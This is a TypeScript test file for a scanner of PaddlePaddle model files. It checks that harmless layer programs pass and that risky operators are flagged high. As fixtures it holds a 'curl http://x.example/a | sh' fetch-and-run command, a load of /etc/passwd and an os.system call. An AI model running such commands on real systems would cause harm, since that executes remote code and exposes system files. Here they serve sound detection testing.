import { describe, expect, test } from 'vitest';
import { paddle, paddleOperator } from '#formats/test-files/runtimes';
import { scanBytes } from '../test-scan.ts';

const callstack = { op_callstack: 'File "/usr/lib/x.py", line 3\n os.system("id")' };

test('a program of layers is clean, whatever its stack of calls says', () => {
  expect(
    scanBytes(paddle(paddleOperator('feed'), paddleOperator('conv2d', callstack), paddleOperator('softmax'), paddleOperator('fetch'))),
  ).toMatchObject({
    format: { kind: 'paddle' },
    verdict: 'clean',
    outcome: 'scanned',
    card: { framework: 'PaddlePaddle', layers: 4 },
  });
});

describe('operators that act are told as high', () => {
  test.each([
    ['a function of Python', paddle(paddleOperator('feed'), paddleOperator('py_func')), 'MDL-FB-004'],
    ['a file that is read', paddle(paddleOperator('load', { file_path: '/etc/passwd' })), 'MDL-FB-005'],
    ['a file that is written', paddle(paddleOperator('save_combine', { file_path: '/home/x' })), 'MDL-FB-005'],
    ['an operator of a library', paddle(paddleOperator('custom_relu')), 'MDL-FB-001'],
    ['an attribute that is a command', paddle(paddleOperator('scale', { note: 'curl http://x.example/a | sh' })), 'MDL-FB-003'],
  ])('%s', (_name, bytes, rule) => {
    expect(scanBytes(bytes).severities.get(rule)).toBe('high');
  });
});
